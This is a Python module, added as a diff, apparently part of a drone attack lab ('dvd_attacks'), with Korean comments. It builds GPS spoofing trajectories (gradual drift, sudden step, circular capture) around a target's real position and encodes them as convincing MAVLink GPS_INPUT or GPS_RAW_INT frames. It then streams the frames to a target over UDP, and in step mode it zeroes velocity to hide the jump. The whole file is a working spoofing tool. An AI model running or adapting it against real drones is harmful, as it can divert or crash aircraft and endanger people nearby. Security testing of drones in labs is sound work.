@@ -0,0 +1,207 @@
+# dvd_lite/dvd_attacks/protocol_tampering/gps_trajectory.py
+"""
+GPS 스푸핑 궤적 생성 엔진
+시작 위치에서 표류(drift) / 계단(step) / 원형 포획(circle) 오프셋을 배열 단위로 계산하고,
+GPS_INPUT 또는 GPS_RAW_INT 프레임으로 한 번에 인코딩한다.
+
+10Hz로 수 분 분량 궤적을 만들고 인코딩하는 비용은 수 밀리초 수준이다.
+"""
+
+import asyncio
+import logging
+import socket
+from dataclasses import dataclass
+from typing import Dict, List, Any, Tuple
+
+from ... import mavlink
+
+try:
+    import numpy as np
+    NUMPY_AVAILABLE = True
+except ImportError:
+    np = None
+    NUMPY_AVAILABLE = False
+
+logger = logging.getLogger(__name__)
+
+EARTH_RADIUS = 6371008.8                 # 평균 지구 반지름 (m)
+GPS_EPOCH_UNIX = 315964800               # 1980-01-06 00:00:00 UTC
+GPS_LEAP_SECONDS = 18
+SECONDS_PER_WEEK = 604800
+
+SPOOF_MODES = ("drift", "step", "circle")
+
+@dataclass
+class SpoofProfile:
+    """스푸핑 궤적 설정
+
+    drift: ramp_time 동안 가속한 뒤 drift_speed(m/s)로 drift_bearing 방향 표류
+    step: step_time에 step_offset(m)만큼 drift_bearing 방향으로 순간 이동
+    circle: capture_time 동안 반지름을 키워 circle_radius(m), circle_period(s) 원 궤도로 유도
+    """
+    mode: str = "drift"
+    rate_hz: float = 10.0
+    duration: float = 60.0
+    drift_speed: float = 2.0
+    drift_bearing: float = 90.0
+    ramp_time: float = 10.0
+    step_offset: float = 50.0
+    step_time: float = 5.0
+    circle_radius: float = 30.0
+    circle_period: float = 60.0
+    capture_time: float = 15.0
+
+    def __post_init__(self):
+        if self.mode not in SPOOF_MODES:
+            raise ValueError(f"지원하지 않는 스푸핑 방식: {self.mode} (지원: {', '.join(SPOOF_MODES)})")
+        if self.rate_hz <= 0 or self.duration <= 0:
+            raise ValueError("rate_hz와 duration은 0보다 커야 합니다")
+
+@dataclass
+class GPSTrack:
+    """생성된 궤적 (모든 필드는 같은 길이의 배열)"""
+    t: Any                 # 시작 기준 경과 시간 (s)
+    lat: Any               # 위도 (deg)
+    lon: Any               # 경도 (deg)
+    alt: Any               # 고도 (m, MSL)
+    vn: Any                # 북쪽 속도 (m/s)
+    ve: Any                # 동쪽 속도 (m/s)
+    vd: Any                # 아래쪽 속도 (m/s)
+    offset: Any            # 실제 위치로부터의 수평 오프셋 (m)
+    start_time: float      # 첫 샘플의 UNIX 시각
+
+    def __len__(self) -> int:
+        return len(self.t)
+
+    def summary(self) -> Dict[str, Any]:
+        return {
+            "samples": len(self),
+            "duration": float(self.t[-1]) if len(self) else 0.0,
+            "final_position": (round(float(self.lat[-1]), 7), round(float(self.lon[-1]), 7)),
+            "max_offset_m": round(float(self.offset.max()), 2),
+            "max_speed_mps": round(float(np.hypot(self.vn, self.ve).max()), 2)
+        }
+
+    def encode(self, message: str = "GPS_INPUT", seq_start: int = 0, sysid: int = 255, compid: int = 190,
+               satellites: int = 12) -> List[bytes]:
+        """궤적 전체를 MAVLink 프레임으로 일괄 인코딩"""
+        timestamps = self.start_time + self.t
+        lat_e7 = np.round(self.lat * 1e7).astype(np.int32)
+        lon_e7 = np.round(self.lon * 1e7).astype(np.int32)
+
+        if message == "GPS_INPUT":
+            gps_seconds = timestamps - GPS_EPOCH_UNIX + GPS_LEAP_SECONDS
+            columns = {
+                "time_usec": (timestamps * 1e6).astype(np.uint64),
+                "time_week": (gps_seconds // SECONDS_PER_WEEK).astype(np.uint16),
+                "time_week_ms": ((gps_seconds % SECONDS_PER_WEEK) * 1000).astype(np.uint32),
+                "lat": lat_e7, "lon": lon_e7, "alt": self.alt,
+                "hdop": 0.8, "vdop": 1.2,
+                "vn": self.vn, "ve": self.ve, "vd": self.vd,
+                "speed_accuracy": 0.2, "horiz_accuracy": 0.5, "vert_accuracy": 0.8,
+                "fix_type": 3, "satellites_visible": satellites
+            }
+        elif message == "GPS_RAW_INT":
+            speed = np.hypot(self.vn, self.ve)
+            course = np.degrees(np.arctan2(self.ve, self.vn)) % 360.0
+            columns = {
+                "time_usec": (timestamps * 1e6).astype(np.uint64),
+                "lat": lat_e7, "lon": lon_e7,
+                "alt": np.round(self.alt * 1000).astype(np.int32),
+                "eph": 80, "epv": 120,
+                "vel": np.round(speed * 100).astype(np.uint16),
+                "cog": np.round(course * 100).astype(np.uint16) % 36000,
+                "fix_type": 3, "satellites_visible": satellites
+            }
+        else:
+            raise ValueError(f"지원하지 않는 GPS 메시지: {message}")
+
+        return mavlink.encode_many(message, columns, seq_start, sysid, compid)
+
+def _smoothstep(x):
+    x = np.clip(x, 0.0, 1.0)
+    return x * x * (3.0 - 2.0 * x)
+
+def destination(lat, lon, north, east):
+    """시작점에서 북/동 방향 변위(m)만큼 이동한 위치 (구면 대권 계산, 배열 지원)"""
+    distance = np.hypot(north, east) / EARTH_RADIUS
+    bearing = np.arctan2(east, north)
+    lat1 = np.radians(lat)
+    lon1 = np.radians(lon)
+
+    sin_lat2 = np.sin(lat1) * np.cos(distance) + np.cos(lat1) * np.sin(distance) * np.cos(bearing)
+    lat2 = np.arcsin(sin_lat2)
+    lon2 = lon1 + np.arctan2(np.sin(bearing) * np.sin(distance) * np.cos(lat1),
+                             np.cos(distance) - np.sin(lat1) * sin_lat2)
+    return np.degrees(lat2), (np.degrees(lon2) + 540.0) % 360.0 - 180.0
+
+class TrajectoryGenerator:
+    """스푸핑 궤적 생성기 (원점은 대상의 실제 위치)"""
+
+    def __init__(self, origin_lat: float, origin_lon: float, origin_alt: float = 100.0):
+        if not NUMPY_AVAILABLE:
+            raise RuntimeError("GPS 궤적 생성에는 numpy가 필요합니다")
+        self.origin_lat = origin_lat
+        self.origin_lon = origin_lon
+        self.origin_alt = origin_alt
+
+    def offsets(self, profile: SpoofProfile, t) -> Tuple[Any, Any]:
+        """시간 배열에 대한 북/동 오프셋 (m)"""
+        bearing = np.radians(profile.drift_bearing)
+
+        if profile.mode == "drift":
+            ramp = max(profile.ramp_time, 1e-9)
+            # 가속 구간은 등가속, 이후 등속 (속도가 연속이 되도록)
+            distance = np.where(t < ramp, profile.drift_speed * t * t / (2 * ramp),
+                                profile.drift_speed * (t - ramp / 2))
+            return distance * np.cos(bearing), distance * np.sin(bearing)
+
+        if profile.mode == "step":
+            distance = np.where(t >= profile.step_time, profile.step_offset, 0.0)
+            return distance * np.cos(bearing), distance * np.sin(bearing)
+
+        radius = profile.circle_radius * _smoothstep(t / max(profile.capture_time, 1e-9))
+        angle = bearing + 2 * np.pi * t / profile.circle_period
+        return radius * np.cos(angle), radius * np.sin(angle)
+
+    def generate(self, profile: SpoofProfile, start_time: float = 0.0) -> GPSTrack:
+        count = int(round(profile.duration * profile.rate_hz))
+        t = np.arange(count) / profile.rate_hz
+        north, east = self.offsets(profile, t)
+        lat, lon = destination(self.origin_lat, self.origin_lon, north, east)
+        alt = np.full(count, self.origin_alt)
+
+        # 속도는 오프셋의 시간 미분 (대상이 정지 중이라 가정)
+        # step은 순간 이동을 속도로 드러내지 않도록 속도 0으로 보고
+        if profile.mode == "step" or count < 2:
+            vn = ve = np.zeros(count)
+        else:
+            vn = np.gradient(north, t)
+            ve = np.gradient(east, t)
+
+        return GPSTrack(t, lat, lon, alt, vn, ve, np.zeros(count), np.hypot(north, east), start_time)
+
+async def send_track(frames: List[bytes], target: Tuple[str, int], rate_hz: float) -> Dict[str, Any]:
+    """인코딩된 프레임을 rate_hz 간격으로 전송"""
+    loop = asyncio.get_running_loop()
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setblocking(False)
+    sent = failed = 0
+    started = loop.time()
+    try:
+        sock.connect(target)
+        for index, frame in enumerate(frames):
+            delay = started + index / rate_hz - loop.time()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            try:
+                sock.send(frame)
+                sent += 1
+            except OSError:
+                failed += 1
+    finally:
+        sock.close()
+
+    elapsed = loop.time() - started
+    return {"frames_sent": sent, "send_failures": failed, "elapsed": elapsed,
+            "achieved_rate_hz": sent / elapsed if elapsed > 0 else 0.0}